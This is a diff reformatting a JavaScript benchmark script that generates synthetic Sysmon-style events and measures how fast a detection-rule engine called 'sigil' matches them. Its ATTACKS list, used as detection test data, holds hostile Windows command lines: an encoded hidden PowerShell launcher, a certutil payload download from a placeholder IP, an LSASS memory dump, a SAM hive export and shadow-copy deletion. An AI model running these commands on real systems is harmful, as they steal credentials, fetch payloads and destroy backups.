@@ -49,50 +49,203 @@ const pick = (a) => a[Math.floor(rnd() * a.length)];
 const hex = (n) => Array.from({ length: n }, () => '0123456789ABCDEF'[Math.floor(rnd() * 16)]).join('');
 const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
 
-const USERS = ['CORP\\alice', 'CORP\\bob', 'CORP\\svc_backup', 'NT AUTHORITY\\SYSTEM', 'CORP\\carol', 'NT AUTHORITY\\NETWORK SERVICE'];
+const USERS = [
+  'CORP\\alice',
+  'CORP\\bob',
+  'CORP\\svc_backup',
+  'NT AUTHORITY\\SYSTEM',
+  'CORP\\carol',
+  'NT AUTHORITY\\NETWORK SERVICE',
+];
 const HOSTS = Array.from({ length: 50 }, (_, i) => `WS-${String(i).padStart(4, '0')}.corp.local`);
 const NORMAL = [
-  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
-  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1234 --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
+  [
+    'C:\\Windows\\System32\\svchost.exe',
+    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
+    'C:\\Windows\\System32\\services.exe',
+  ],
+  [
+    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1234 --lang=en-US',
+    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+  ],
   ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Windows\\System32\\userinit.exe'],
-  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\Git\\cmd\\git.exe" status', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'],
+  [
+    'C:\\Windows\\System32\\conhost.exe',
+    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\cmd.exe',
+    'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\Git\\cmd\\git.exe" status',
+    'C:\\Program Files\\Microsoft VS Code\\Code.exe',
+  ],
   ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe fetch --all --prune', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Program Files\\nodejs\\node.exe', 'node.exe C:\\Users\\alice\\src\\app\\node_modules\\vite\\bin\\vite.js build', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command Get-ChildItem C:\\Users\\alice\\Documents', 'C:\\Windows\\explorer.exe'],
-  ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'],
-  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'C:\\Windows\\System32\\svchost.exe'],
-  ['C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process', 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe'],
-  ['C:\\Windows\\System32\\SearchProtocolHost.exe', '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1', 'C:\\Windows\\System32\\SearchIndexer.exe'],
+  [
+    'C:\\Program Files\\nodejs\\node.exe',
+    'node.exe C:\\Users\\alice\\src\\app\\node_modules\\vite\\bin\\vite.js build',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    'powershell.exe -NoProfile -Command Get-ChildItem C:\\Users\\alice\\Documents',
+    'C:\\Windows\\explorer.exe',
+  ],
+  [
+    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
+    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
+    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\taskhostw.exe',
+    'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}',
+    'C:\\Windows\\System32\\svchost.exe',
+  ],
+  [
+    'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
+    '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process',
+    'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\SearchProtocolHost.exe',
+    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1',
+    'C:\\Windows\\System32\\SearchIndexer.exe',
+  ],
   ['C:\\Python311\\python.exe', 'python.exe -m pytest tests\\unit -q', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
+  [
+    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
+    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
+    'C:\\Windows\\System32\\svchost.exe',
+  ],
 ];
 const ATTACKS = [
-  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic /namespace:\\\\root\\subscription PATH __EventConsumer create Name="x"', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'C:\\Windows\\System32\\cmd.exe'],
+  [
+    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\certutil.exe',
+    'certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\rundll32.exe',
+    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\wbem\\WMIC.exe',
+    'wmic /namespace:\\\\root\\subscription PATH __EventConsumer create Name="x"',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\reg.exe',
+    'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
   ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'C:\\Windows\\System32\\cmd.exe'],
 ];
-const FILES = ['C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{n}.tmp', 'C:\\Users\\bob\\Downloads\\report{n}.pdf', 'C:\\Windows\\Prefetch\\CHROME.EXE-{n}.pf', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\{n}.bin'];
-const KEYS = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\{n}', 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\{n}', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{n}'];
-const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'github.com', 'registry.npmjs.org', 'teams.microsoft.com'];
+const FILES = [
+  'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{n}.tmp',
+  'C:\\Users\\bob\\Downloads\\report{n}.pdf',
+  'C:\\Windows\\Prefetch\\CHROME.EXE-{n}.pf',
+  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\{n}.bin',
+];
+const KEYS = [
+  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\{n}',
+  'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\{n}',
+  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{n}',
+];
+const DOMAINS = [
+  'www.google.com',
+  'login.microsoftonline.com',
+  'github.com',
+  'registry.npmjs.org',
+  'teams.microsoft.com',
+];
 
 function event(i) {
   const t = new Date(Date.UTC(2024, 4, 1) + i * 10).toISOString();
-  const base = { Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: pick(HOSTS), TimeCreated: t, ProcessGuid: guid(), ProcessId: Math.floor(rnd() * 30000), User: pick(USERS) };
+  const base = {
+    Channel: 'Microsoft-Windows-Sysmon/Operational',
+    Computer: pick(HOSTS),
+    TimeCreated: t,
+    ProcessGuid: guid(),
+    ProcessId: Math.floor(rnd() * 30000),
+    User: pick(USERS),
+  };
   const r = rnd();
   const attack = rnd() < 0.002;
   const [image, cmd, parent] = attack ? pick(ATTACKS) : pick(NORMAL);
   if (r < 0.6) {
-    return { ...base, EventID: 1, Image: image, CommandLine: cmd, ParentImage: parent, ParentCommandLine: parent, OriginalFileName: path.win32.basename(image).toUpperCase(), CurrentDirectory: 'C:\\Windows\\system32\\', IntegrityLevel: pick(['Medium', 'High', 'System']), Hashes: `SHA256=${hex(64)}`, Company: 'Microsoft Corporation', Product: 'Microsoft® Windows® Operating System', Description: 'Windows host process' };
+    return {
+      ...base,
+      EventID: 1,
+      Image: image,
+      CommandLine: cmd,
+      ParentImage: parent,
+      ParentCommandLine: parent,
+      OriginalFileName: path.win32.basename(image).toUpperCase(),
+      CurrentDirectory: 'C:\\Windows\\system32\\',
+      IntegrityLevel: pick(['Medium', 'High', 'System']),
+      Hashes: `SHA256=${hex(64)}`,
+      Company: 'Microsoft Corporation',
+      Product: 'Microsoft® Windows® Operating System',
+      Description: 'Windows host process',
+    };
   }
-  if (r < 0.75) return { ...base, EventID: 3, Image: image, Protocol: 'tcp', Initiated: 'true', SourceIp: `10.1.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`, SourcePort: 49152 + Math.floor(rnd() * 10000), DestinationIp: attack ? '203.0.113.7' : `142.250.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`, DestinationPort: pick([443, 443, 80, 53]), DestinationHostname: pick(DOMAINS) };
-  if (r < 0.85) return { ...base, EventID: 11, Image: image, TargetFilename: attack ? 'C:\\Users\\Public\\sam.save' : pick(FILES).replace('{n}', hex(6)), CreationUtcTime: t };
-  if (r < 0.95) return { ...base, EventID: 13, EventType: 'SetValue', Image: image, TargetObject: pick(KEYS).replace('{n}', hex(6)), Details: pick(['DWORD (0x00000001)', 'Binary Data', `C:\\Program Files\\${hex(4)}\\x.exe`]) };
-  if (rnd() < 0.5) return { ...base, EventID: 7, Image: image, ImageLoaded: pick(['C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\amsi.dll']), Signed: 'true', Signature: 'Microsoft Windows' };
-  return { ...base, EventID: 22, Image: image, QueryName: pick(DOMAINS), QueryStatus: '0', QueryResults: '::ffff:142.250.1.1;' };
+  if (r < 0.75)
+    return {
+      ...base,
+      EventID: 3,
+      Image: image,
+      Protocol: 'tcp',
+      Initiated: 'true',
+      SourceIp: `10.1.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`,
+      SourcePort: 49152 + Math.floor(rnd() * 10000),
+      DestinationIp: attack ? '203.0.113.7' : `142.250.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`,
+      DestinationPort: pick([443, 443, 80, 53]),
+      DestinationHostname: pick(DOMAINS),
+    };
+  if (r < 0.85)
+    return {
+      ...base,
+      EventID: 11,
+      Image: image,
+      TargetFilename: attack ? 'C:\\Users\\Public\\sam.save' : pick(FILES).replace('{n}', hex(6)),
+      CreationUtcTime: t,
+    };
+  if (r < 0.95)
+    return {
+      ...base,
+      EventID: 13,
+      EventType: 'SetValue',
+      Image: image,
+      TargetObject: pick(KEYS).replace('{n}', hex(6)),
+      Details: pick(['DWORD (0x00000001)', 'Binary Data', `C:\\Program Files\\${hex(4)}\\x.exe`]),
+    };
+  if (rnd() < 0.5)
+    return {
+      ...base,
+      EventID: 7,
+      Image: image,
+      ImageLoaded: pick([
+        'C:\\Windows\\System32\\ntdll.dll',
+        'C:\\Windows\\System32\\kernel32.dll',
+        'C:\\Windows\\System32\\amsi.dll',
+      ]),
+      Signed: 'true',
+      Signature: 'Microsoft Windows',
+    };
+  return {
+    ...base,
+    EventID: 22,
+    Image: image,
+    QueryName: pick(DOMAINS),
+    QueryStatus: '0',
+    QueryResults: '::ffff:142.250.1.1;',
+  };
 }
 
 const file = `/tmp/sigil-bench-events-${SEED}-${N}.jsonl`;
@@ -146,7 +299,10 @@ let tested = 0;
 const perRule = new Map();
 const start = performance.now();
 const cpu0 = process.cpuUsage();
-const rl = readline.createInterface({ input: fs.createReadStream(file, { encoding: 'utf8', highWaterMark: 1 << 20 }), crlfDelay: Infinity });
+const rl = readline.createInterface({
+  input: fs.createReadStream(file, { encoding: 'utf8', highWaterMark: 1 << 20 }),
+  crlfDelay: Infinity,
+});
 const every = Math.max(1, Math.floor(N / 8));
 for await (const line of rl) {
   if (!line) continue;
@@ -167,10 +323,24 @@ const cpu = process.cpuUsage(cpu0);
 const cpuSecs = (cpu.user + cpu.system) / 1e6;
 
 console.log(`sigil evaluator benchmark (node ${process.version}, ${process.arch})`);
-console.log(`events:     ${count} Sysmon-like JSON Lines (${mb(bytes)}, ${file}); mix 60% process_creation, 15% network, 10% file, 10% registry, 5% image_load/dns, ~0.2% attack-like`);
-console.log(`rules:      ${rules.length} from ${RULES} (${engine.diagnostics.length} not evaluable); parse ${((t1 - t0) / 1000).toFixed(2)}s, compile+index ${((t2 - t1) / 1000).toFixed(2)}s`);
-console.log(`logsource filter: ${logsourceFilter ? 'on' : 'off'}; rule tests per event: ${(tested / Math.max(count, 1)).toFixed(1)} of ${rules.length}`);
-console.log(`throughput: ${Math.round(count / cpuSecs)} events per CPU-second (${cpuSecs.toFixed(2)}s CPU; JSON.parse + evaluation on one thread); wall clock ${Math.round(count / secs)} events/s (${secs.toFixed(2)}s, shared machine)`);
-console.log(`matches:    ${matches} (${perRule.size} distinct rules); top: ${[...perRule].sort((a, b) => b[1] - a[1]).slice(0, 5).map(([t, n]) => `${t} ×${n}`).join('; ')}`);
+console.log(
+  `events:     ${count} Sysmon-like JSON Lines (${mb(bytes)}, ${file}); mix 60% process_creation, 15% network, 10% file, 10% registry, 5% image_load/dns, ~0.2% attack-like`,
+);
+console.log(
+  `rules:      ${rules.length} from ${RULES} (${engine.diagnostics.length} not evaluable); parse ${((t1 - t0) / 1000).toFixed(2)}s, compile+index ${((t2 - t1) / 1000).toFixed(2)}s`,
+);
+console.log(
+  `logsource filter: ${logsourceFilter ? 'on' : 'off'}; rule tests per event: ${(tested / Math.max(count, 1)).toFixed(1)} of ${rules.length}`,
+);
+console.log(
+  `throughput: ${Math.round(count / cpuSecs)} events per CPU-second (${cpuSecs.toFixed(2)}s CPU; JSON.parse + evaluation on one thread); wall clock ${Math.round(count / secs)} events/s (${secs.toFixed(2)}s, shared machine)`,
+);
+console.log(
+  `matches:    ${matches} (${perRule.size} distinct rules); top: ${[...perRule]
+    .sort((a, b) => b[1] - a[1])
+    .slice(0, 5)
+    .map(([t, n]) => `${t} ×${n}`)
+    .join('; ')}`,
+);
 // RSS saws up and down with V8's lazy major GC; heapUsed shows what is live (flat = bounded).
 console.log(`rss:        ${samples.join(', ')}; peak ${mb(process.resourceUsage().maxRSS * 1024)}`);
